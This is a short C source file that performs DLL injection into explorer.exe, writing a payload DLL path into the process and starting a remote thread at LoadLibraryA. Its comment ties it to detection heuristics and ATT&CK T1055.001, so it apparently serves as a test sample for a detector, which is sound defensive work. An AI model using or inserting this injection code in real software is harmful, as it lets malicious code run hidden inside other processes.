// Heuristic 8 (DLL injection, T1055.001) and 5: writes a DLL path into
// explorer.exe and starts a remote thread at LoadLibraryA.
#include "remote_process.h"

int main(void) {
  static const char dll[] = "C:\\Users\\Public\\payload.dll";
  HANDLE proc = open_target_process();
  if (!proc) return 1;
  void* remote = write_into_process(proc, dll, sizeof dll, PAGE_READWRITE);
  if (!remote) return 2;
  FARPROC load = GetProcAddress(GetModuleHandleA("kernel32.dll"), "LoadLibraryA");
  HANDLE thread = CreateRemoteThread(proc, NULL, 0, (LPTHREAD_START_ROUTINE)load, remote, 0, NULL);
  if (thread) {
    WaitForSingleObject(thread, 1000);
    CloseHandle(thread);
  }
  CloseHandle(proc);
  return 0;
}
